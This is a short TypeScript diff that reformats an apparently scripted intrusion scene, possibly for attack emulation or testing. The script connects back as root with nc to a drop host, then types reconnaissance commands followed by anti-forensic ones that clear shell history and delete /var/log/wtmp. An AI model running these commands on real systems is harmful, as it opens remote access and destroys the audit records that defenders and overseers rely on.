@@ -148,7 +148,13 @@ function* settle(stage: Stage, cast: Cast): Script {
   });
   wait(scene, 3000, 20_000);
   yield* callBack(scene, { as: root, session, argv: ["nc", dropIp, port] });
-  for (const line of ["ps aux", `pgrep -f ${tool}`, "ss -tn", "history -c", "rm -f /var/log/wtmp"]) {
+  for (const line of [
+    "ps aux",
+    `pgrep -f ${tool}`,
+    "ss -tn",
+    "history -c",
+    "rm -f /var/log/wtmp",
+  ]) {
     wait(scene, 2000, 20_000);
     yield* type(scene, session, line);
   }
